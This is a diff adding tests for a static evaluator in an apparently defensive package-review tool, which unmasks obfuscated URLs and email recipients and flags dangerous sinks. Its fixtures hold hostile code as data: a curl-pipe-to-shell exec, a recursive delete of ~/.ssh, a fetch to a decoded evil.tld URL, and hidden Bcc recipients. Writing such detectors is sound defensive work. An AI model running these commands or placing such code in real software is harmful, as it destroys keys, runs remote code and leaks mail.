@@ -1,0 +1,158 @@
+/**
+ * The evaluator under the rules and the tool surface: what it folds, and what it leaves DYNAMIC
+ * rather than guess, within its bounds.
+ */
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+import type { ESTree } from "meriyah";
+import { withLimits } from "../../src/common/limits.js";
+import { analyzeJs, parseProgram } from "../../src/review/code-facts.js";
+import { factsCache } from "../../src/review/engine.js";
+import { makeSnapshot, readPackageFile } from "../../src/review/files.js";
+import { DYNAMIC, evalStatic, type StaticValue } from "../../src/review/mcp/static-eval.js";
+
+/** The value of the last `const` of a program, with the program's other consts as names. */
+function value(src: string): StaticValue {
+  const prog = parseProgram(src, "x.js");
+  const consts = new Map<string, ESTree.Node>();
+  let last: ESTree.Node | null = null;
+  for (const st of prog.body) {
+    if (st.type !== "VariableDeclaration") continue;
+    for (const d of st.declarations) {
+      if (d.id.type === "Identifier" && d.init) {
+        consts.set(d.id.name, d.init);
+        last = d.init;
+      }
+    }
+  }
+  return evalStatic(last, (n) => consts.get(n) ?? null);
+}
+
+describe("the evaluator folds one step of indirection, and more", () => {
+  const cases: [string, string, StaticValue][] = [
+    ["join", 'const v = ["phan", "giftshop.club"].join("@");', "phan@giftshop.club"],
+    [
+      "concat and template",
+      'const h = "evil"; const v = `https://${h}.tld`.concat("/x");',
+      "https://evil.tld/x",
+    ],
+    [
+      "split, reverse, join",
+      'const v = "dlt.live//:sptth".split("").reverse().join("");',
+      "https://evil.tld",
+    ],
+    ["replace", 'const v = "https://EVIL.tld".replace(/EVIL/g, "evil");', "https://evil.tld"],
+    [
+      "char codes under XOR",
+      "const v = String.fromCharCode(...[109, 113, 113, 117].map((c) => c ^ 5));",
+      "htt" + "p",
+    ],
+    ["atob", 'const v = atob("aHR0cHM6Ly9ldmlsLnRsZA==");', "https://evil.tld"],
+    [
+      "Buffer base64",
+      'const v = Buffer.from("aHR0cHM6Ly9ldmlsLnRsZA==", "base64").toString();',
+      "https://evil.tld",
+    ],
+    ["Buffer hex", 'const v = Buffer.from("6576696c2e746c64", "hex").toString("utf8");', "evil.tld"],
+    ["URI escapes", 'const v = decodeURIComponent("x%40evil.tld");', "x@evil.tld"],
+    ["env fallback", 'const v = process.env.CC || "x@evil.tld";', "x@evil.tld"],
+    ["nullish fallback", 'const v = process.env.CC ?? "x@evil.tld";', "x@evil.tld"],
+    [
+      "Object.assign",
+      'const a = { to: "x" }; const v = Object.assign({}, a, { bcc: "y@evil.tld" }).bcc;',
+      "y@evil.tld",
+    ],
+    ["JSON.parse", 'const v = JSON.parse(\'{"host":"evil.tld"}\').host;', "evil.tld"],
+    ["arithmetic", "const v = (7 * 6) ^ 0;", 42],
+  ];
+  for (const [name, src, expected] of cases) {
+    it(name, () => assert.deepEqual(value(src), expected));
+  }
+});
+
+describe("the evaluator says DYNAMIC rather than guess", () => {
+  const cases: [string, string][] = [
+    ["a name it cannot see", "const v = host + '/x';"],
+    ["a call it does not know", 'const v = lookup("x@evil.tld");'],
+    ["the environment alone", "const v = process.env.CC;"],
+    ["a regex that could backtrack", 'const v = "aaaaaaaaaaaaaaaaaaaaaaaa!".replace(/(a+)+$/, "");'],
+    ["text past the size cap", 'const v = "x".padStart(100000000, "y");'],
+    ["a map over a function with statements", "const v = [1, 2].map((c) => { foo(); return c; });"],
+  ];
+  for (const [name, src] of cases) {
+    it(name, () => assert.equal(value(src), DYNAMIC));
+  }
+
+  it("a long concatenation chain stays within the step budget", () => {
+    const chain = Array.from({ length: 30_000 }, (_, i) => `"${i}"`).join(" + ");
+    assert.equal(value(`const v = ${chain};`), DYNAMIC);
+  });
+});
+
+describe("code facts see built values", () => {
+  it("a recipient built from a default parameter and a fallback is folded, and says it was built", () => {
+    const facts = analyzeJs(
+      'export function send(m, { copy = process.env.CC || ["x", "evil.tld"].join("@") } = {}) { m.Bcc = copy; }',
+      "index.js",
+    );
+    const bcc = facts.keyed.find((k) => k.key === "Bcc");
+    assert.deepEqual({ value: bcc?.value, built: bcc?.built }, { value: "x@evil.tld", built: "this file" });
+  });
+
+  it("a decoded string is among the strings, marked decoded", () => {
+    const facts = analyzeJs('const u = atob("aHR0cHM6Ly9ldmlsLnRsZC9j"); fetch(u);', "index.js");
+    const s = facts.strings.find((x) => x.value === "https://evil.tld/c");
+    assert.equal(s?.decoded, true);
+  });
+
+  it("commands and deletes carry what is known of their text", () => {
+    const facts = analyzeJs(
+      'const cp = require("child_process"); const os = require("os"); const path = require("path");\n' +
+        'cp.exec("curl -s " + ["https://x", "sh"].join(".") + " | sh");\n' +
+        "require('fs').rmSync(path.join(os.homedir(), '.ssh'), { recursive: true });\n" +
+        "cp.exec(`git log ${process.argv[2]}`);",
+      "index.js",
+    );
+    assert.deepEqual(
+      facts.sinks.map((s) => [s.kind, s.text, s.recursive ?? false]),
+      [
+        ["exec", "curl -s https://x.sh | sh", false],
+        ["delete", "~/.ssh", true],
+        ["exec", "git log …", false],
+      ],
+    );
+  });
+});
+
+describe("constants imported from other files of the package", () => {
+  const limits = withLimits();
+  const snapshot = (files: Record<string, string>) =>
+    makeSnapshot(
+      "test",
+      new Map(Object.entries(files).map(([p, t]) => [p, readPackageFile(p, Buffer.from(t), 0o644, limits)])),
+      [],
+    );
+
+  it("follow ESM, CommonJS and JSON, and stop at a cycle", () => {
+    const s = snapshot({
+      "package.json": '{ "name": "p", "version": "1.0.0" }',
+      "index.js":
+        'import { A } from "./a.js";\nimport cfg from "./cfg.json" with { type: "json" };\nconst { C } = require("./c");\nm.Bcc = A; m.To = cfg.to; m.Cc = C; m.ReplyTo = LOOP;\nimport { LOOP } from "./loop1.js";',
+      "a.js": 'export const A = ["a", "evil.tld"].join("@");',
+      "cfg.json": '{ "to": "b@evil.tld" }',
+      "c.js": 'module.exports = { C: "c@" + "evil.tld" };',
+      "loop1.js": 'import { LOOP as X } from "./loop2.js"; export const LOOP = X;',
+      "loop2.js": 'import { LOOP as Y } from "./loop1.js"; export const LOOP = Y;',
+    });
+    const facts = factsCache(new Set(), [s])(s.files.get("index.js")!)!;
+    assert.deepEqual(
+      facts.keyed.map((k) => [k.key, k.value, k.built]),
+      [
+        ["Bcc", "a@evil.tld", "a.js"],
+        ["To", "b@evil.tld", "cfg.json"],
+        ["Cc", "c@evil.tld", "c.js"],
+        ["ReplyTo", null, "loop1.js"],
+      ],
+    );
+  });
+});
